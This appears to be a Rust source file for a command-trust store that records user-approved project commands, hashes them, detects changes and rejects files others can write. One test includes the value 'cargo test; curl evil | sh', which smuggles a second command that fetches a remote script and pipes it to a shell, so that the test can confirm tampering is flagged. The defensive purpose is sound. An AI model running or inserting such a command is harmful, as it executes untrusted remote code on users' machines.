//! What the user has allowed, a file a project.

use super::user::{UserError, UserFolders, make_private};
use crate::{
    engine::NamedCommand,
    text::{Revision, RevisionHasher},
};
use jiff::civil::DateTime;
use serde::{Deserialize, Serialize};
use std::{
    fs,
    io::{self, Write as _},
    path::{Path, PathBuf},
};

/// The user's decisions about commands.
#[derive(Clone, Debug)]
pub struct Trust {
    folder: PathBuf,
    /// The workflow whose gates the decisions are about; empty for the project's own commands.
    workflow: String,
}

/// How a project's commands stand.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Standing {
    /// The project names no command.
    NoCommands,
    /// Exactly these commands are trusted.
    Trusted,
    /// They were never trusted.
    Unknown,
    /// Others were; these are new or different.
    Changed {
        /// The command lines that were not there when trust was given.
        added: Vec<String>,
        /// Those that were, and are no more.
        removed: Vec<String>,
    },
}

/// A project whose commands were trusted, in whatever form it has now.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TrustedProject {
    /// Its folder.
    pub root: PathBuf,
    /// When, in local time.
    pub since: String,
    /// The command lines.
    pub lines: Vec<String>,
}

/// Why trust can't be given, looked up or taken back.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// The user's folders can't be used.
    #[error(transparent)]
    User(#[from] UserError),
    /// What is trusted would stand inside the project, which could then bring it along.
    #[error("{} lies inside the project", .0.display())]
    Inside(PathBuf),
    /// Somebody else may write the file.
    #[error("{} may be written by others", .0.display())]
    Writable(PathBuf),
}

impl Trust {
    /// What stands in the user's folders.
    #[must_use]
    pub fn new(folders: &UserFolders) -> Self {
        Self { folder: folders.trust(), workflow: String::new() }
    }

    /// The same, for the commands that the gates of a workflow run.
    #[must_use]
    pub fn for_workflow(self, id: &str) -> Self {
        Self { workflow: id.to_owned(), ..self }
    }

    /// How these commands of the project in `root` stand. `root` has no symbolic links.
    ///
    /// # Errors
    /// When what is trusted can't be read; nothing is trusted then.
    pub fn standing(&self, root: &Path, commands: &[NamedCommand]) -> Result<Standing, TrustError> {
        if commands.is_empty() {
            return Ok(Standing::NoCommands);
        }
        let Some(stored) = self.read(&self.path(root)?)? else { return Ok(Standing::Unknown) };
        if stored.project != root.to_string_lossy() {
            return Ok(Standing::Unknown);
        }
        if stored.hash == hash(root, commands).to_string() {
            return Ok(Standing::Trusted);
        }
        let now: Vec<StoredCommand> = commands.iter().map(StoredCommand::from).collect();
        let missing_in = |here: &[StoredCommand], there: &[StoredCommand]| -> Vec<String> {
            here.iter().filter(|it| !there.contains(it)).map(|it| it.line.clone()).collect()
        };
        Ok(Standing::Changed {
            added: missing_in(&now, &stored.commands),
            removed: missing_in(&stored.commands, &now),
        })
    }

    /// Trusts exactly these commands of the project in `root`.
    ///
    /// # Errors
    /// When that can't be written down.
    pub fn grant(&self, root: &Path, commands: &[NamedCommand], at: DateTime) -> Result<(), TrustError> {
        let path = self.path(root)?;
        let stored = Stored {
            project: root.to_string_lossy().into_owned(),
            since: at.to_string(),
            hash: hash(root, commands).to_string(),
            commands: commands.iter().map(StoredCommand::from).collect(),
        };
        let json = serde_json::to_string_pretty(&stored).expect("strings are JSON");
        self.write(&path, &json).map_err(|source| UserError::Io { path, source }.into())
    }

    /// Takes trust back; answers whether there was any.
    ///
    /// # Errors
    /// When the file can't be removed.
    pub fn revoke(&self, root: &Path) -> Result<bool, TrustError> {
        let path = self.path(root)?;
        match fs::remove_file(&path) {
            Ok(()) => Ok(true),
            Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(false),
            Err(source) => Err(UserError::Io { path, source }.into()),
        }
    }

    /// All projects that were ever trusted and not revoked, by folder. What can't be read is left out.
    ///
    /// # Errors
    /// When the folder can't be read.
    pub fn projects(&self) -> Result<Vec<TrustedProject>, TrustError> {
        let failed = |source| UserError::Io { path: self.folder.clone(), source };
        let entries = match fs::read_dir(&self.folder) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            entries => entries.map_err(failed)?,
        };
        let mut projects = Vec::new();
        for entry in entries {
            let path = entry.map_err(failed)?.path();
            let is_ours = path.extension().is_some_and(|extension| extension == "json");
            if let Ok(Some(stored)) = if is_ours { self.read(&path) } else { Ok(None) } {
                let lines = stored.commands.into_iter().map(|command| command.line).collect();
                projects.push(TrustedProject { root: stored.project.into(), since: stored.since, lines });
            }
        }
        projects.sort_by(|one, other| one.root.cmp(&other.root));
        Ok(projects)
    }

    /// Where the decision about a project stands.
    fn path(&self, root: &Path) -> Result<PathBuf, TrustError> {
        if resolved(&self.folder).starts_with(root) {
            return Err(TrustError::Inside(self.folder.clone()));
        }
        let mut subject = root.as_os_str().as_encoded_bytes().to_vec();
        if !self.workflow.is_empty() {
            // No path has a NUL.
            subject.push(0);
            subject.extend(self.workflow.as_bytes());
        }
        Ok(self.folder.join(format!("{}.json", Revision::of(subject))))
    }

    fn read(&self, path: &Path) -> Result<Option<Stored>, TrustError> {
        let failed = |source| UserError::Io { path: path.to_owned(), source };
        let metadata = match fs::symlink_metadata(path) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
            metadata => metadata.map_err(failed)?,
        };
        if !metadata.is_file() || !is_private(&metadata) {
            return Err(TrustError::Writable(path.to_owned()));
        }
        let text = fs::read_to_string(path).map_err(failed)?;
        // What was damaged was not allowed.
        Ok(serde_json::from_str(&text).ok())
    }

    fn write(&self, path: &Path, text: &str) -> io::Result<()> {
        make_private(&self.folder)?;
        // Only the user may read a temporary file, and so the one that it becomes.
        let mut file = tempfile::NamedTempFile::new_in(&self.folder)?;
        file.write_all(text.as_bytes())?;
        file.as_file().sync_all()?;
        file.persist(path).map(drop).map_err(|error| error.error)
    }
}

/// `path` without symbolic links and `..`, as far as it exists.
fn resolved(path: &Path) -> PathBuf {
    let existing = path.ancestors().find_map(|folder| Some((folder, folder.canonicalize().ok()?)));
    existing.map_or_else(
        || path.to_owned(),
        |(folder, real)| real.join(path.strip_prefix(folder).unwrap_or(Path::new(""))),
    )
}

#[cfg(unix)]
fn is_private(metadata: &fs::Metadata) -> bool {
    use std::os::unix::fs::MetadataExt as _;
    metadata.uid() == rustix::process::geteuid().as_raw() && metadata.mode() & 0o022 == 0
}

#[cfg(not(unix))]
fn is_private(_: &fs::Metadata) -> bool {
    true
}

#[derive(Serialize, Deserialize)]
struct Stored {
    project: String,
    since: String,
    hash: String,
    commands: Vec<StoredCommand>,
}

#[derive(PartialEq, Serialize, Deserialize)]
struct StoredCommand {
    purpose: String,
    label: String,
    line: String,
}

impl From<&NamedCommand> for StoredCommand {
    fn from(command: &NamedCommand) -> Self {
        Self {
            purpose: command.purpose.name().to_owned(),
            label: command.label.clone(),
            line: command.line.clone(),
        }
    }
}

/// The hash that trust is bound to: over the project's folder and what the commands are for, are
/// called and are, each with its length, so that nothing can pass for something else.
fn hash(root: &Path, commands: &[NamedCommand]) -> Revision {
    let mut hasher = RevisionHasher::default();
    let mut part = |bytes: &[u8]| {
        hasher.update((bytes.len() as u64).to_le_bytes());
        hasher.update(bytes);
    };
    part(root.as_os_str().as_encoded_bytes());
    for command in commands {
        let stored = StoredCommand::from(command);
        [&stored.purpose, &stored.label, &stored.line].iter().for_each(|text| part(text.as_bytes()));
    }
    hasher.finish()
}

#[cfg(test)]
#[expect(clippy::disallowed_methods, reason = "tests damage what is trusted")]
mod tests {
    use super::*;
    use crate::{document::CommandKind, engine::Purpose, text::DocumentId};
    use jiff::civil::date;

    fn command(line: &str) -> NamedCommand {
        NamedCommand {
            purpose: Purpose::Check(CommandKind::Test),
            label: "Tests".into(),
            line: line.into(),
            document: DocumentId::Config,
            at: 3,
        }
    }

    fn trust(folder: &tempfile::TempDir) -> Trust {
        Trust::new(&UserFolders::below(folder.path()))
    }

    const ROOT: &str = "/a/project";

    #[test]
    fn exactly_these_commands_in_exactly_this_place() {
        let folder = tempfile::tempdir().unwrap();
        let trust = trust(&folder);
        let root = Path::new(ROOT);
        let trusted = [command("cargo test"), command("cargo clippy")];
        let standing = |root: &Path, commands: &[NamedCommand]| trust.standing(root, commands).unwrap();
        assert_eq!(standing(root, &[]), Standing::NoCommands);
        assert_eq!(standing(root, &trusted), Standing::Unknown);
        trust.grant(root, &trusted, date(2026, 1, 2).at(3, 4, 5, 0)).unwrap();
        assert_eq!(standing(root, &trusted), Standing::Trusted);
        assert_eq!(standing(Path::new("/another/project"), &trusted), Standing::Unknown);
        let changed = |added: &[&str], removed: &[&str]| Standing::Changed {
            added: added.iter().map(|&line| line.into()).collect(),
            removed: removed.iter().map(|&line| line.into()).collect(),
        };
        let evil = "cargo test; curl evil | sh";
        assert_eq!(
            standing(root, &[command(evil), command("cargo clippy")]),
            changed(&[evil], &["cargo test"])
        );
        assert_eq!(standing(root, &[command("cargo test")]), changed(&[], &["cargo clippy"]));
        let [first, second] = trusted.clone();
        assert_eq!(standing(root, &[second, first]), changed(&[], &[]), "even the order");
        let renamed = NamedCommand { label: "Lint".into(), ..command("cargo test") };
        assert_ne!(standing(root, &[renamed, command("cargo clippy")]), Standing::Trusted);
        let moved = NamedCommand { at: 99, ..command("cargo test") };
        assert_eq!(
            standing(root, &[moved, command("cargo clippy")]),
            Standing::Trusted,
            "a line is no command"
        );
        assert_eq!(trust.projects().unwrap()[0].lines, ["cargo test", "cargo clippy"]);
        assert!(trust.revoke(root).unwrap() && !trust.revoke(root).unwrap());
        assert_eq!(standing(root, &trusted), Standing::Unknown);
    }

    #[test]
    fn only_the_user_can_have_written_it() {
        use std::os::unix::fs::PermissionsExt as _;
        let folder = tempfile::tempdir().unwrap();
        let trust = trust(&folder);
        let root = Path::new(ROOT);
        trust.grant(root, &[command("make test")], date(2026, 1, 2).at(3, 4, 5, 0)).unwrap();
        let path = trust.path(root).unwrap();
        let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!((mode(&path), mode(&trust.folder)), (0o600, 0o700));
        fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
        let standing = trust.standing(root, &[command("make test")]);
        assert!(matches!(standing, Err(TrustError::Writable(_))), "{standing:?}");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
        fs::write(&path, "{").unwrap();
        assert_eq!(trust.standing(root, &[command("make test")]).unwrap(), Standing::Unknown);
        let inside = trust.standing(folder.path(), &[command("make test")]);
        assert!(matches!(inside, Err(TrustError::Inside(_))), "{inside:?}");
    }
}
